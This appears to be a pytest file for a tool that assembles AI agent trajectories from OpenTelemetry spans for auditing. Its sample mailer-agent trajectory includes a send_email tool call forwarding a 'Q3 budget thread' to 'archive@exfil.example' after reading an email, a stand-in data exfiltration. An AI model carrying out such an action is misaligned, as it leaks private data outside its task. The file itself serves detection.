"""Span -> trajectory assembly over the sample files: GenAI (hex ids, vLLM spans), vLLM spans
with base64 ids, OpenInference, OpenLLMetry, the console format, spans without content, and
malformed input."""

from __future__ import annotations

import json

from auditor.collectors import assemble_trajectories, load_file
from auditor.collectors.spans import SpanRecord
from auditor.collectors.loading import load_path, sniff_format
from auditor.trajectory import ActionKind

EMAIL_START = "From: boss@corp.example"


def test_genai_file_with_vllm_spans_and_malformed_lines(data_dir):
    path = data_dir / "otlp_genai.jsonl"
    assert sniff_format(path) == "otlp-json"
    res = load_path(path)
    # every valid span kept: 4 + 2 good on line 3 + vLLM tail + start-up span
    assert len(res.spans) == 8
    errors = [(i.line, i.field) for i in res.issues if i.severity == "error"]
    assert errors == [(2, None), (3, "spanId"), (7, "resourceSpans")]
    assert all(i.file == str(path) for i in res.issues)
    assert next(i for i in res.issues if i.line == 3).span_id == "xyz-not-an-id"
    assert "invalid JSON" in next(i for i in res.issues if i.line == 2).message
    (traj,) = res.trajectories  # the vLLM start-up trace makes no trajectory
    assert traj.id == "5b8aa5a2d2c872e8321cf37308d69df2" and traj.source == "otel"
    assert [m.role for m in traj.messages] == ["system", "user", "assistant", "tool", "assistant", "tool"]
    assert traj.messages[3].content.startswith(EMAIL_START)
    assert traj.messages[4].reasoning == "The email asks to forward the thread."
    assert traj.messages[5].content == "sent" and traj.messages[5].metadata["from_tool_span"] is True
    sends = [a for a in traj.actions if a.tool_name == "send_email"]
    assert sends[0].arguments == {"to": "archive@exfil.example", "body": "Q3 budget thread"}
    assert [t.name for t in traj.tools] == ["read_inbox", "send_email"]
    meta = traj.metadata
    assert meta["model"] == "smollm2" and meta["conversation_id"] == "conv-42" and meta["agent_name"] == "mailer"
    assert meta["service_name"] == "mailer-agent" and meta["conventions"] == ["gen_ai"]
    assert [r["request_id"] for r in meta["llm_requests"]] == ["chatcmpl-1", "chatcmpl-2"]
    assert meta["llm_requests"][0]["time_in_queue"] == 0.002
    assert meta["usage"] == {"input_tokens": 252, "output_tokens": 58}
    # per-message: the first assistant turn is linked to its chat span and vLLM request
    first = traj.messages[2].metadata
    assert first["span_id"] == "0000000000000c01" and first["llm_request"]["e2e"] == 0.095
    assert traj.messages[3].metadata["span_id"] == "0000000000000d01"


def test_vllm_spans_with_base64_ids_match_by_request_id(data_dir):
    res = load_path(data_dir / "otlp_vllm_base64.jsonl")
    assert res.issues == []
    vllm = next(s for s in res.spans if s.name == "llm_request")
    assert vllm.trace_id == "8e0c63257de34c92bf9efcd03927272e" and vllm.span_id == "53995c3f42cd8ad8"
    assert vllm.kind == "SERVER" and vllm.status["code"] == "OK" and vllm.parent_span_id is None
    (traj,) = res.trajectories  # no separate trajectory for vLLM's trace
    assert [m.content for m in traj.messages] == ["Say hi", "Hi!"]
    assert traj.messages[-1].metadata["llm_request"]["prompt_tokens"] == 9
    assert traj.metadata["llm_requests"][0]["chat_span_id"] == "00f067aa0ba902b7"


def test_openinference_attributes(data_dir):
    res = load_path(data_dir / "openinference.jsonl")
    assert res.issues == []
    (traj,) = res.trajectories
    assert [m.role for m in traj.messages] == ["system", "user", "assistant", "tool", "assistant"]
    assert traj.messages[2].tool_calls[0].model_dump() == {"id": "call_a", "name": "read_inbox", "arguments": {"n": 1}}
    assert traj.messages[3].tool_call_id == "call_a" and traj.messages[3].name == "read_inbox"
    assert traj.messages[3].metadata["span_id"] == "2222222222222222"  # OpenInference TOOL span joined
    assert traj.messages[4].content.startswith("Your boss asks")
    assert traj.metadata["conventions"] == ["openinference"] and traj.metadata["model"] == "smollm2"
    assert traj.metadata["conversation_id"] == "sess-7" and traj.metadata["usage"]["input_tokens"] == 150
    assert [t.name for t in traj.tools] == ["read_inbox"]
    assert [a.kind for a in traj.actions] == [ActionKind.tool_call, ActionKind.final_answer]


def test_openllmetry_flattened_prompt_form(data_dir):
    res = load_path(data_dir / "openllmetry.jsonl")
    assert res.issues == []
    (traj,) = res.trajectories
    assert [m.role for m in traj.messages] == ["system", "user", "assistant", "tool", "assistant"]
    last = traj.messages[-1]
    assert last.tool_calls[0].name == "send_email" and last.tool_calls[0].arguments["to"] == "archive@exfil.example"
    assert last.metadata["finish_reason"] == "tool_calls"
    assert [t.name for t in traj.tools] == ["read_inbox", "send_email"]
    assert traj.tools[1].parameters["required"] == ["to", "body"]
    assert traj.metadata["conventions"] == ["openllmetry"] and traj.metadata["agent_name"] == "mailer"


def test_console_format_with_a_broken_object(data_dir):
    path = data_dir / "console.txt"
    assert sniff_format(path) == "otel-console"
    res = load_path(path)
    assert len(res.spans) == 2
    (issue,) = res.issues
    assert issue.severity == "error" and issue.line is not None and issue.line > 1
    (traj,) = res.trajectories
    assert [m.content for m in traj.messages] == ["What's 2+2?", "4"]
    assert traj.metadata["agent_name"] == "calc" and traj.metadata["service_name"] == "calc-agent"
    assert traj.metadata["trace_id"] == "6e0c63257de34c92bf9efcd03927272e"


def test_spans_without_content_make_an_uncaptured_trajectory(data_dir):
    res = load_path(data_dir / "no_content.jsonl")
    (traj,) = res.trajectories
    assert traj.content_captured is False
    assert [(i.severity, i.span_id) for i in res.issues] == [("warning", "5555555555555501"),
                                                             ("warning", "5555555555555503")]
    assert "content capture was off" in res.issues[0].message
    assert res.issues[0].file.endswith("no_content.jsonl") and res.issues[0].line == 1
    assert [m.role for m in traj.messages] == ["assistant", "tool", "assistant"]
    assert traj.messages[0].tool_calls[0].id == "call_1"
    assert traj.metadata["usage"] == {"input_tokens": 180, "output_tokens": 24}


def _chat(trace, sid, start, inputs=None, outputs=None, conv=None, **attrs):
    a = {"gen_ai.operation.name": "chat", "gen_ai.request.model": "m", **attrs}
    if inputs is not None:
        a["gen_ai.input.messages"] = json.dumps(inputs)
    if outputs is not None:
        a["gen_ai.output.messages"] = json.dumps(outputs)
    if conv:
        a["gen_ai.conversation.id"] = conv
    return SpanRecord(trace_id=trace, span_id=sid, name="chat m", kind="CLIENT", start_time_unix_nano=start,
                      end_time_unix_nano=start + 10, attributes=a)


def _text(role, text):
    return {"role": role, "parts": [{"type": "text", "content": text}]}


def test_traces_are_ordered_by_time_and_duplicates_ignored():
    t1, t2 = "1" * 32, "2" * 32
    late = _chat(t1, "a" * 16, 200, [_text("user", "late")], [_text("assistant", "ok")])
    early = _chat(t2, "b" * 16, 100, [_text("user", "early")], [_text("assistant", "ok")])
    trajs, issues = assemble_trajectories([late, early, late])
    assert issues == [] and [t.id for t in trajs] == [t2, t1]
    assert [len(t.messages) for t in trajs] == [2, 2]


def test_one_trace_with_two_conversations_is_split():
    t = "3" * 32
    spans = [_chat(t, "a" * 16, 100, [_text("user", "A?")], [_text("assistant", "A!")], conv="ca"),
             _chat(t, "b" * 16, 150, [_text("user", "B?")], [_text("assistant", "B!")], conv="cb")]
    trajs, _ = assemble_trajectories(spans)
    assert [t_.id for t_ in trajs] == [f"{t}:ca", f"{t}:cb"]
    assert [t_.messages[0].content for t_ in trajs] == ["A?", "B?"]


def test_system_instructions_and_truncated_history():
    t = "4" * 32
    inputs = [_text("user", "go on"),
              {"role": "tool", "parts": [{"type": "tool_call_response", "id": "lost", "result": "old result"}]}]
    span = _chat(t, "c" * 16, 1, inputs, [_text("assistant", "done")],
                 **{"gen_ai.system_instructions": json.dumps([{"type": "text", "content": "Be safe."}])})
    (traj,), issues = assemble_trajectories([span])
    assert [m.role for m in traj.messages] == ["system", "user", "assistant"]
    assert traj.messages[0].content == "Be safe."
    (issue,) = issues
    assert issue.span_id == "c" * 16 and "unknown call id 'lost'" in issue.message and issue.severity == "warning"


def test_orphan_vllm_request_is_reported_not_dropped():
    span = SpanRecord(trace_id="5" * 32, span_id="e" * 16, name="llm_request", kind="SERVER",
                      attributes={"gen_ai.request.id": "cmpl-9", "gen_ai.latency.e2e": 0.5,
                                  "gen_ai.usage.prompt_tokens": 10}, source="otlp-http")
    (traj,), issues = assemble_trajectories([span])
    assert traj.content_captured is False
    assert traj.messages[0].metadata["span_id"] == "e" * 16
    (issue,) = issues
    assert issue.span_id == "e" * 16 and "vLLM records no prompt" in issue.message and issue.file == "otlp-http"


def test_load_file_reports_unreadable_and_unknown(tmp_path):
    res = load_file(tmp_path / "missing.jsonl", "otlp-json")
    assert res.issues and "cannot read" in res.issues[0].message
    assert "unknown format" in load_file(tmp_path / "x", "nope").issues[0].message


def test_pretty_printed_single_export_is_accepted(tmp_path, data_dir):
    first = (data_dir / "otlp_vllm_base64.jsonl").read_text().splitlines()[0]
    path = tmp_path / "export.json"
    path.write_text(json.dumps(json.loads(first), indent=2))
    res = load_file(path, "otlp-json")
    assert res.issues == [] and len(res.spans) == 1 and len(res.trajectories) == 1


# -- per-call contexts -------------------------------------------------------------------------------


def _coder_spans(trace: str = "6" * 32, *, second_reply: bool = True) -> list[SpanRecord]:
    """An Aider-style agent: each call re-sends the history, then the file as it is now."""
    from helpers.contexts import request_messages

    def genai(m):
        return _text(m.role, m.content)

    req1, req2 = request_messages(1), request_messages(2)
    tools = json.dumps([{"type": "function", "function": {"name": "lint", "parameters": {}}}])
    first = _chat(trace, "a" * 16, 100, [genai(m) for m in req1[:-1]], [genai(req1[-1])], conv="c")
    second = _chat(trace, "b" * 16, 200, [genai(m) for m in req2[:-1]],
                   [genai(req2[-1])] if second_reply else None, conv="c",
                   **{"gen_ai.tool.definitions": tools})
    return [first, second]


def test_diverging_calls_make_one_context_each():
    from helpers.contexts import NEW, OLD, REPLY_1, request_messages

    (traj,), issues = assemble_trajectories(_coder_spans())
    assert issues == []
    assert [c.id for c in traj.contexts] == ["req1", "req2"]
    req1, req2 = traj.contexts
    assert [m.content for m in req1.messages] == [m.content for m in request_messages(1)]
    assert [m.content for m in req2.messages] == [m.content for m in request_messages(2)]
    assert OLD in req1.messages[1].content and NEW in req2.messages[3].content
    assert req1.metadata["span_id"] == "a" * 16 and req2.reply.metadata["span_id"] == "b" * 16
    # the last call's messages are the trajectory's, as before; its tools are the trajectory's
    assert [m.content for m in traj.messages] == [m.content for m in req2.messages]
    assert [t.name for t in traj.tools] == ["lint"] and req2.tools is None and req1.tools is None
    edits = [(a.id, a.context_id, a.message_index) for a in traj.actions]
    assert edits == [(f"{traj.id}:a0", "req1", 4), (f"{traj.id}:a1", "req2", 6)]
    assert traj.context("req1").reply.content == REPLY_1


def test_append_only_calls_make_no_contexts():
    t = "7" * 32
    q1, a1 = _text("user", "first question"), _text("assistant", "first answer")
    q2, a2 = _text("user", "second question"), _text("assistant", "second answer")
    spans = [_chat(t, "a" * 16, 100, [q1], [a1]), _chat(t, "b" * 16, 200, [q1, a1, q2], [a2])]
    (traj,), issues = assemble_trajectories(spans)
    assert issues == [] and traj.contexts == []
    assert [m.content for m in traj.messages] == ["first question", "first answer", "second question", "second answer"]
    # one changed word in the history is a different conversation
    edited = _text("assistant", "first answer, edited")
    spans[1] = _chat(t, "b" * 16, 200, [q1, edited, q2], [a2])
    (traj,), _ = assemble_trajectories(spans)
    assert [c.id for c in traj.contexts] == ["req1", "req2"]
    assert [(a.kind.value, a.context_id) for a in traj.actions] == [("final_answer", "req2")]


def test_a_call_without_reply_is_reported_and_gets_no_context():
    (traj,), issues = assemble_trajectories(_coder_spans(second_reply=False))
    assert [c.id for c in traj.contexts] == ["req1"]
    assert [a.context_id for a in traj.actions] == ["req1"]
    (issue,) = issues
    assert issue.span_id == "b" * 16 and "no reply" in issue.message
